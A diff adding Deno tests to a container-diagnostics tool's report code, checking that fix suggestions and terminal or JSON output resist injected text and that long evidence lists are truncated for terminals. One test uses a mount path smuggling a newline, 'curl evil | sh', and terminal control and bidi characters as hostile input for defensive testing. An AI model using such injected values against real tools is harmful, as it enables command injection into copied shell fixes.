@@ -2,7 +2,8 @@ import assert from "node:assert/strict";
 import { stripVTControlCharacters } from "node:util";
 import { examine } from "../../../lib/doctor/checks.ts";
 import type { Placed } from "../../../lib/doctor/finding.ts";
-import { asJson, asText } from "../../../lib/doctor/report.ts";
+import { asJson, asJsonText, asText } from "../../../lib/doctor/report.ts";
+import { configOf, oneListener } from "./config_of.ts";
 import { factsOf, SOCKET } from "./fake_host.ts";
 
 const findings: Placed[] = [
@@ -64,6 +65,43 @@ Deno.test("a file that cannot be read leaves one check without an answer, and th
     ["sudo postern doctor"],
   ]]);
   assert.ok(findings.some(({ check }) => check === "real-socket"));
+});
+
+Deno.test("a line feed in a name ends no comment of a fix, and none gets to a terminal by way of JSON", async () => {
+  const id = "ab".repeat(32);
+  const Destination = "/x\ncurl evil | sh #\u009b2J\u202e";
+  const facts = await factsOf({
+    engine: {
+      "/info": {},
+      "/containers/json?all=1": [{ Id: id }],
+      [`/containers/${id}/json`]: {
+        Id: id,
+        Name: "/web",
+        Mounts: [{ Source: "/run/docker.sock", Destination }],
+      },
+    },
+  }, configOf(oneListener));
+  const report = await examine(facts);
+  const [told] = report.findings.filter(({ check }) => check === "containers");
+  assert.equal(told?.level, "wrong");
+  const shell = report.findings.flatMap(({ fix }) => fix ?? []).join("\n");
+  assert.deepEqual(shell.split("\n").filter((line) => line.startsWith("curl")), []);
+  for (const text of [asJsonText(report), asText(report, { color: false, columns: 80 })]) {
+    assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{C}]/u);
+  }
+  // For programs, nothing is lost but in comments.
+  const parsed = JSON.parse(asJsonText(report)) as typeof report;
+  assert.ok(parsed.findings.some(({ evidence }) => evidence?.[0]?.endsWith(Destination)));
+  assert.equal(asJsonText(report).indexOf("\n"), asJsonText(report).length - 1);
+});
+
+Deno.test("a terminal is shown some of a long list, programs all of it", () => {
+  const evidence = Array.from({ length: 500 }, (_, i) => `process ${i}`);
+  const report = { findings: [{ ...findings[1]!, evidence }], leftOut: [] };
+  const text = asText(report, { color: false, columns: 80 });
+  assert.equal(text.match(/process/g)?.length, 11);
+  assert.match(text, /- and 489 more \(--json\)$/m);
+  assert.equal(asJson(report).findings[0]?.evidence.length, 500);
 });
 
 Deno.test("below a root nothing live is asked, and what is left out is named", async () => {
